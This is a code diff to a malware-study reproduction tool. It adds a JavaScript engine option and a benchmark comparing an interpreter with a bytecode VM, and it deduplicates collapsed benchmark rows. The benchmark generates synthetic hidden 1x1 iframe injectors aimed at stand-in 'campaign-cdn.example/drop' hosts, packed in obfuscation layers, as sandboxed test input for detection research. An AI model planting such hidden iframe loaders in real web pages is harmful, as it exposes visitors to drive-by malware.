@@ -12,10 +12,13 @@
 //! `vetting` (§III-B), `burst` (§IV), `cloaking` (§III fn. 1) and
 //! `cases` (§V), `faultloss` (the detection-loss-under-faults
 //! experiment), `crawlloss` (the corpus-loss-under-exchange-faults
-//! experiment), plus `json` (the full study as one JSON document) and
+//! experiment), plus `json` (the full study as one JSON document),
 //! `bench-scan` (the crawl→scan scaling harness: serial vs chunked
 //! parallel scan timing plus barrier-vs-overlap pipeline wall-clock
-//! across crawl scales, written to `BENCH_scanpipe.json`). Options:
+//! across crawl scales, written to `BENCH_scanpipe.json`) and
+//! `bench-jsvm` (the JS-engine harness: tree-walk vs cold vs warm-cache
+//! bytecode VM over a repeated-payload corpus, plus per-scale scan
+//! wall-clock under each engine, written to `BENCH_jsvm.json`). Options:
 //! `--scale <f64>` (crawl scale, default 0.002), `--seed <u64>`
 //! (default 2016), `--workers <N>` (scan-phase worker threads, default
 //! = available parallelism; `1` forces the serial path),
@@ -30,9 +33,11 @@
 //! stand-in for a crash), `--metrics <path>` (dump the study's
 //! observability snapshot — `Study::metrics()` — as JSON),
 //! `--overlap` (stream crawl chunks straight into the scan phase
-//! instead of waiting for the crawl barrier; bit-identical output) and
-//! `--quick` (restrict `bench-scan` to its smallest crawl scale, for
-//! CI smoke runs).
+//! instead of waiting for the crawl barrier; bit-identical output),
+//! `--js-engine <name>` (`vm`, the default compiled-bytecode engine,
+//! or `interp`, the tree-walking oracle — scan output is bit-identical
+//! either way) and `--quick` (restrict `bench-scan`/`bench-jsvm` to
+//! their smallest crawl scale, for CI smoke runs).
 
 use std::path::Path;
 use std::sync::OnceLock;
@@ -42,6 +47,7 @@ use malware_slums::report::Render;
 use malware_slums::study::{Study, StudyConfig};
 use slum_crawler::CrawlFaultProfile;
 use slum_detect::fault::FaultProfile;
+use slum_js::sandbox::JsEngine;
 
 struct Args {
     artifacts: Vec<String>,
@@ -57,6 +63,7 @@ struct Args {
     metrics: Option<String>,
     overlap: bool,
     quick: bool,
+    js_engine: JsEngine,
 }
 
 fn parse_args() -> Args {
@@ -73,6 +80,7 @@ fn parse_args() -> Args {
     let mut metrics = None;
     let mut overlap = false;
     let mut quick = false;
+    let mut js_engine = JsEngine::default();
     let mut iter = std::env::args().skip(1);
     while let Some(arg) = iter.next() {
         match arg.as_str() {
@@ -140,17 +148,26 @@ fn parse_args() -> Args {
             }
             "--overlap" => overlap = true,
             "--quick" => quick = true,
+            "--js-engine" => {
+                let name = iter.next().unwrap_or_else(|| die("--js-engine needs a name"));
+                js_engine = JsEngine::parse(&name).unwrap_or_else(|| {
+                    die(&format!("unknown JS engine '{name}' (known: vm, interp)"))
+                });
+            }
             "--help" | "-h" => {
                 println!(
                     "usage: repro [artifacts..] [--scale F] [--seed N] [--workers W] \
                      [--fault-profile NAME] [--crawl-fault-profile NAME] [--checkpoint DIR] \
                      [--checkpoint-every N] [--resume DIR] [--kill-after-round N] \
-                     [--metrics PATH] [--overlap] [--quick]\n\
+                     [--metrics PATH] [--overlap] [--quick] [--js-engine NAME]\n\
                      artifacts: all table1 table2 table3 table4 fig2 fig3 fig4 fig5 fig6 fig7 \
-                     vetting burst cloaking staleness faultloss crawlloss cases json bench-scan\n\
+                     vetting burst cloaking staleness faultloss crawlloss cases json bench-scan \
+                     bench-jsvm\n\
                      fault profiles: none default harsh\n\
+                     JS engines: vm (default; compiled bytecode) interp (tree-walking oracle) \
+                     — scan output is bit-identical either way\n\
                      --overlap streams crawl chunks into the scan phase (no barrier); \
-                     --quick restricts bench-scan to its smallest scale"
+                     --quick restricts bench-scan/bench-jsvm to their smallest scale"
                 );
                 std::process::exit(0);
             }
@@ -180,6 +197,7 @@ fn parse_args() -> Args {
         metrics,
         overlap,
         quick,
+        js_engine,
     }
 }
 
@@ -206,6 +224,7 @@ fn main() {
                 .domain_scale((args.scale * 25.0).clamp(0.03, 1.0))
                 .scan_workers(args.workers)
                 .overlap_scan(args.overlap)
+                .js_engine(args.js_engine)
                 .fault_profile(args.fault_profile.clone())
                 .crawl_fault_profile(args.crawl_fault_profile.clone());
             if args.checkpoint.is_some() || args.resume.is_some() {
@@ -473,6 +492,10 @@ fn main() {
         println!("=== Crawl→scan pipeline benchmark ===");
         bench_scan(args.seed, args.quick);
     }
+    if args.artifacts.iter().any(|a| a == "bench-jsvm") {
+        println!("=== JS bytecode VM benchmark ===");
+        bench_jsvm(args.seed, args.quick);
+    }
     if let Some(path) = &args.metrics {
         let json = study().metrics().to_json();
         match std::fs::write(path, json) {
@@ -537,15 +560,27 @@ fn bench_scan(seed: u64, quick: bool) {
             records.len() as f64 / serial.max(1e-9)
         );
 
+        // Honesty rule: when the serial-fallback clamp collapses a
+        // multi-worker request to the serial plan, there is exactly one
+        // measurement — re-reporting the same seconds once per request
+        // would read as four independent timings. Collapsed requests
+        // fold into ONE row marked `duplicates_of: 1` listing the
+        // worker counts it covers.
         let mut runs = Vec::new();
+        let mut collapsed: Vec<usize> = Vec::new();
         for workers in [1usize, 2, 4, 8] {
             let effective =
                 effective_scan_workers(records.len(), workers, DEFAULT_SERIAL_SCAN_THRESHOLD);
-            let (seconds, fallback) = if effective == 1 {
+            if effective == 1 && workers > 1 {
                 // The study would execute the serial plan for this
-                // request (small corpus or single-core host), so the
-                // serial measurement is the honest one to report.
-                (serial, workers > 1)
+                // request (small corpus or single-core host); the
+                // serial measurement already covers it.
+                println!("  {workers} worker(s) -> serial fallback (covered by the 1-worker row)");
+                collapsed.push(workers);
+                continue;
+            }
+            let (seconds, fallback) = if effective == 1 {
+                (serial, false)
             } else {
                 pipeline.clear_caches();
                 let t0 = std::time::Instant::now();
@@ -568,6 +603,21 @@ fn bench_scan(seed: u64, quick: bool) {
                 speedup,
                 records_per_sec: records.len() as f64 / seconds.max(1e-9),
                 serial_fallback: fallback,
+                duplicates_of: None,
+                covers_workers: Vec::new(),
+            });
+        }
+        if !collapsed.is_empty() {
+            let serial_row = &runs[0];
+            runs.push(BenchRun {
+                workers: collapsed[0],
+                effective_workers: 1,
+                seconds: serial_row.seconds,
+                speedup: serial_row.speedup,
+                records_per_sec: serial_row.records_per_sec,
+                serial_fallback: true,
+                duplicates_of: Some(1),
+                covers_workers: collapsed,
             });
         }
 
@@ -607,17 +657,24 @@ fn bench_scan(seed: u64, quick: bool) {
     }
 
     // The first (smallest) scale doubles as the legacy flat schema so
-    // existing consumers of BENCH_scanpipe.json keep parsing.
+    // existing consumers of BENCH_scanpipe.json keep parsing. Deduped
+    // rows re-expand here: the legacy shape promises one entry per
+    // requested worker count.
     let first = scale_entries.first().expect("at least one scale ran");
     let doc = BenchDoc {
         benchmark: "scanpipe".to_string(),
         seed,
         crawl_scale: first.crawl_scale,
         records: first.records,
-        runs: first
-            .runs
+        runs: [1usize, 2, 4, 8]
             .iter()
-            .map(|r| LegacyRun { workers: r.workers, seconds: r.seconds, speedup: r.speedup })
+            .filter_map(|&w| {
+                first
+                    .runs
+                    .iter()
+                    .find(|r| r.workers == w || r.covers_workers.contains(&w))
+                    .map(|r| LegacyRun { workers: w, seconds: r.seconds, speedup: r.speedup })
+            })
             .collect(),
         host: BenchHost { cpus },
         scan_chunk: DEFAULT_SCAN_CHUNK,
@@ -634,7 +691,10 @@ fn bench_scan(seed: u64, quick: bool) {
     }
 }
 
-/// One measured scan run inside `BENCH_scanpipe.json`.
+/// One measured scan run inside `BENCH_scanpipe.json`. A row whose
+/// `duplicates_of` is set holds no independent measurement: its timing
+/// is the row with that worker count (always the serial row), and
+/// `covers_workers` lists every requested count it stands in for.
 #[derive(serde::Serialize)]
 struct BenchRun {
     workers: usize,
@@ -643,6 +703,215 @@ struct BenchRun {
     speedup: f64,
     records_per_sec: f64,
     serial_fallback: bool,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    duplicates_of: Option<usize>,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    covers_workers: Vec<usize>,
+}
+
+/// The JS-engine microbenchmark and scan-phase comparison behind
+/// `repro bench-jsvm`, written to `BENCH_jsvm.json`.
+///
+/// Microbench: a repeated-payload corpus — distinct packed campaign
+/// payloads (decoder loops via `obfuscate::pack_layers`), each executed
+/// many times, the way one campaign's script shows up across thousands
+/// of exchange pages. Three engine configurations run the identical
+/// corpus:
+///
+/// - `tree-walk` — the AST interpreter, per-run parse + walk;
+/// - `vm-cold` — bytecode VM without a module store: per-run parse +
+///   compile + dispatch (the VM's worst case);
+/// - `vm-warm` — bytecode VM with a shared [`JsModuleCache`]: each
+///   distinct payload compiles once, every later run starts at cached
+///   bytecode (the scan pipeline's configuration).
+///
+/// Reports are asserted observably identical across all three before
+/// any timing is trusted. Scan-phase comparison: the full study at each
+/// crawl scale (`--quick` keeps the smallest) under `--js-engine
+/// interp` vs `vm`, bit-identical outcomes enforced, scan wall-clock
+/// and the `js.vm.*` counters reported.
+fn bench_jsvm(seed: u64, quick: bool) {
+    use std::sync::Arc;
+    use std::time::Instant;
+
+    use slum_detect::JsModuleCache;
+    use slum_js::obfuscate::pack_layers;
+    use slum_js::sandbox::Sandbox;
+    use slum_js::ModuleStore;
+
+    let cpus = malware_slums::study::default_scan_workers();
+    let distinct = 12usize;
+    let repeats = if quick { 40usize } else { 200 };
+
+    // Distinct campaign payloads: an iframe injector behind 1–3 packer
+    // layers, with a small decoder-style loop so execution cost is not
+    // pure parse overhead.
+    let payloads: Vec<String> = (0..distinct)
+        .map(|i| {
+            let injector = format!(
+                "var n = 0; for (var i = 0; i < 60; i++) {{ n = n + i; }} \
+                 document.write('<iframe width=\"1\" height=\"1\" \
+                 src=\"http://sink{i}.campaign-cdn.example/drop?k=' + n + '\"></iframe>');"
+            );
+            pack_layers(&injector, 1 + (i as u32 % 3))
+        })
+        .collect();
+    let executions = (distinct * repeats) as u64;
+    println!(
+        "microbench: {distinct} distinct payloads x {repeats} repeats \
+         = {executions} executions per engine"
+    );
+
+    // Round-robin over payloads so warm-cache hits interleave the way
+    // campaign pages do in a crawl, rather than running each payload as
+    // an isolated burst.
+    let run_corpus = |engine: JsEngine, store: Option<&Arc<JsModuleCache>>| -> (f64, Vec<String>) {
+        let t0 = Instant::now();
+        let mut last_html = Vec::new();
+        for round in 0..repeats {
+            for payload in &payloads {
+                let mut sandbox = Sandbox::new().with_engine(engine);
+                if let Some(cache) = store {
+                    sandbox =
+                        sandbox.with_module_store(Arc::clone(cache) as Arc<dyn ModuleStore>);
+                }
+                let report = sandbox.run(payload);
+                assert!(report.errors.is_empty(), "payload must execute cleanly");
+                if round == 0 {
+                    last_html.push(report.written_html);
+                }
+            }
+        }
+        (t0.elapsed().as_secs_f64(), last_html)
+    };
+
+    let (tw_secs, tw_html) = run_corpus(JsEngine::TreeWalk, None);
+    let (cold_secs, cold_html) = run_corpus(JsEngine::Vm, None);
+    let warm_cache = Arc::new(JsModuleCache::new());
+    let (warm_secs, warm_html) = run_corpus(JsEngine::Vm, Some(&warm_cache));
+    assert_eq!(cold_html, tw_html, "vm output must match the tree-walk oracle");
+    assert_eq!(warm_html, tw_html, "warm-cache vm output must match the tree-walk oracle");
+
+    let per_sec = |secs: f64| executions as f64 / secs.max(1e-9);
+    let warm_stats = warm_cache.stats();
+    let engines = vec![
+        JsEngineRun {
+            engine: "tree-walk".to_string(),
+            seconds: tw_secs,
+            runs_per_sec: per_sec(tw_secs),
+            speedup_vs_treewalk: 1.0,
+            compiles: None,
+            module_hits: None,
+            compile_nanos: None,
+        },
+        JsEngineRun {
+            engine: "vm-cold".to_string(),
+            seconds: cold_secs,
+            runs_per_sec: per_sec(cold_secs),
+            speedup_vs_treewalk: tw_secs / cold_secs.max(1e-9),
+            compiles: None,
+            module_hits: None,
+            compile_nanos: None,
+        },
+        JsEngineRun {
+            engine: "vm-warm".to_string(),
+            seconds: warm_secs,
+            runs_per_sec: per_sec(warm_secs),
+            speedup_vs_treewalk: tw_secs / warm_secs.max(1e-9),
+            compiles: Some(warm_stats.entries),
+            module_hits: Some(warm_stats.hits),
+            compile_nanos: Some(warm_cache.total_compile_nanos()),
+        },
+    ];
+    for run in &engines {
+        println!(
+            "  {:<10} {:>8.3}s  {:>10.0} runs/s  ({:.2}x tree-walk)",
+            run.engine, run.seconds, run.runs_per_sec, run.speedup_vs_treewalk
+        );
+    }
+    let warm_speedup = tw_secs / warm_secs.max(1e-9);
+    println!(
+        "  warm cache: {} compiles served {} warm hits\n",
+        warm_stats.entries, warm_stats.hits
+    );
+
+    // Scan-phase comparison: the same seeded study under each engine.
+    let scales: &[f64] = if quick { &[0.001] } else { &[0.001, 0.1, 1.0] };
+    let mut scale_entries: Vec<JsVmScale> = Vec::new();
+    for &scale in scales {
+        let config = |engine: JsEngine| {
+            StudyConfig::builder()
+                .seed(seed)
+                .crawl_scale(scale)
+                .domain_scale((scale * 25.0).clamp(0.03, 1.0))
+                .js_engine(engine)
+                .build()
+                .expect("bench config")
+        };
+        eprintln!("[bench] crawl_scale {scale}: tree-walk study ...");
+        let (tw_study, tw_phases) = Study::run_timed(&config(JsEngine::TreeWalk));
+        // Keep only the outcomes for the equality check and free the
+        // rest (web, corpus, HAR logs) before timing the VM study —
+        // holding the first study's full corpus alive would tax the
+        // second run's allocator and skew the comparison.
+        let tw_outcomes = tw_study.outcomes.clone();
+        drop(tw_study);
+        eprintln!("[bench] crawl_scale {scale}: vm study ...");
+        let (vm_study, vm_phases) = Study::run_timed(&config(JsEngine::Vm));
+        assert_eq!(
+            vm_study.outcomes, tw_outcomes,
+            "vm scan output must be bit-identical to the interpreter's"
+        );
+        let m = vm_study.metrics();
+        let records = vm_study.store.len();
+        let tw_scan = tw_phases.scan.as_secs_f64();
+        let vm_scan = vm_phases.scan.as_secs_f64();
+        println!(
+            "scale {scale}: {records} records; scan tree-walk {tw_scan:.3}s, \
+             vm {vm_scan:.3}s ({:.2}x); {} compiles, {} warm hits",
+            tw_scan / vm_scan.max(1e-9),
+            m.counter("js.vm.compiles"),
+            m.counter("js.vm.module_cache.hits"),
+        );
+        scale_entries.push(JsVmScale {
+            crawl_scale: scale,
+            records,
+            treewalk_scan_seconds: tw_scan,
+            vm_scan_seconds: vm_scan,
+            vm_scan_speedup: tw_scan / vm_scan.max(1e-9),
+            treewalk_records_per_sec: records as f64 / tw_scan.max(1e-9),
+            vm_records_per_sec: records as f64 / vm_scan.max(1e-9),
+            js_vm: JsVmCounters {
+                compiles: m.counter("js.vm.compiles"),
+                module_cache_lookups: m.counter("js.vm.module_cache.lookups"),
+                module_cache_hits: m.counter("js.vm.module_cache.hits"),
+                instructions: m.counter("js.vm.instructions"),
+                budget_exhaustions: m.counter("js.vm.budget_exhaustions"),
+            },
+        });
+    }
+
+    let doc = JsVmDoc {
+        benchmark: "jsvm".to_string(),
+        seed,
+        host: BenchHost { cpus },
+        microbench: JsVmMicrobench {
+            distinct_payloads: distinct,
+            repeats,
+            executions,
+            engines,
+            warm_speedup_vs_treewalk: warm_speedup,
+        },
+        scales: scale_entries,
+    };
+    let json = format!(
+        "{}\n",
+        serde_json::to_string_pretty(&doc).expect("bench document serializes")
+    );
+    match std::fs::write("BENCH_jsvm.json", &json) {
+        Ok(()) => println!("\nwrote BENCH_jsvm.json"),
+        Err(e) => eprintln!("repro: could not write BENCH_jsvm.json: {e}"),
+    }
 }
 
 /// The pre-scaling-harness row shape, kept for existing consumers.
@@ -651,6 +920,64 @@ struct LegacyRun {
     workers: usize,
     seconds: f64,
     speedup: f64,
+}
+
+/// One engine configuration's microbenchmark row in `BENCH_jsvm.json`.
+#[derive(serde::Serialize)]
+struct JsEngineRun {
+    engine: String,
+    seconds: f64,
+    runs_per_sec: f64,
+    speedup_vs_treewalk: f64,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    compiles: Option<u64>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    module_hits: Option<u64>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    compile_nanos: Option<u64>,
+}
+
+/// The repeated-payload microbenchmark section of `BENCH_jsvm.json`.
+#[derive(serde::Serialize)]
+struct JsVmMicrobench {
+    distinct_payloads: usize,
+    repeats: usize,
+    executions: u64,
+    engines: Vec<JsEngineRun>,
+    warm_speedup_vs_treewalk: f64,
+}
+
+/// The `js.vm.*` counters of one VM study run.
+#[derive(serde::Serialize)]
+struct JsVmCounters {
+    compiles: u64,
+    module_cache_lookups: u64,
+    module_cache_hits: u64,
+    instructions: u64,
+    budget_exhaustions: u64,
+}
+
+/// Per-crawl-scale scan-phase comparison in `BENCH_jsvm.json`.
+#[derive(serde::Serialize)]
+struct JsVmScale {
+    crawl_scale: f64,
+    records: usize,
+    treewalk_scan_seconds: f64,
+    vm_scan_seconds: f64,
+    vm_scan_speedup: f64,
+    treewalk_records_per_sec: f64,
+    vm_records_per_sec: f64,
+    js_vm: JsVmCounters,
+}
+
+/// Top-level `BENCH_jsvm.json` document.
+#[derive(serde::Serialize)]
+struct JsVmDoc {
+    benchmark: String,
+    seed: u64,
+    host: BenchHost,
+    microbench: JsVmMicrobench,
+    scales: Vec<JsVmScale>,
 }
 
 /// Per-crawl-scale section of `BENCH_scanpipe.json`.
